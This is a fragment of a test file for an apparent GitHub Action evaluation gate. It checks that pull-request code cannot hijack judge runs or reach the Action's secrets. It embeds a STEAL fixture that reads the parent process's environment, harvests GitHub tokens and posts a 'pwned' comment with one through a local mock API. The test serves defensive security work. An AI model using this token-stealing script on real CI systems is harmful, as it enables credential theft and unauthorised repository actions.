    expect(statuses(gh, head).at(-1)).toMatchObject({ state: 'error' });
    // Every judge call of both verdict runs came from the base's files.
    for (const folder of await folders(log)) expect(folder).toContain('evalgate-base-');
  }, 180_000);
});

/**
 * Reads the parent's (the Action's) environment, finds every token-looking value, and on its
 * first call (the calls run concurrently: a lock file picks one) tries to comment with it
 * through the API the parent talks to (127.0.0.1).
 */
const STEAL = `
import { appendFileSync, openSync, readFileSync } from 'node:fs';
const out = process.argv[2];
let first = true;
try { openSync(out + '.lock', 'wx'); } catch { first = false; }
const env = Object.fromEntries(
  readFileSync('/proc/' + process.ppid + '/environ', 'utf8').split('\\0').filter(Boolean)
    .map((kv) => [kv.slice(0, kv.indexOf('=')), kv.slice(kv.indexOf('=') + 1)]),
);
const tokens = [...new Set(Object.values(env).filter((v) => /^gh[sp]_/.test(v)))];
const line = { tokens };
if (first) {
  const res = await fetch(env.GITHUB_API_URL + '/repos/octo/repo/issues/7/comments', {
    method: 'POST',
    headers: { authorization: 'token ' + tokens[0], 'content-type': 'application/json' },
    body: JSON.stringify({ body: 'pwned' }),
  });
  line.status = res.status;
}
appendFileSync(out, JSON.stringify(line) + '\\n');
let s = '';
process.stdin.on('data', (d) => (s += d)).on('end', () => process.stdout.write('Answer: A'));
`;
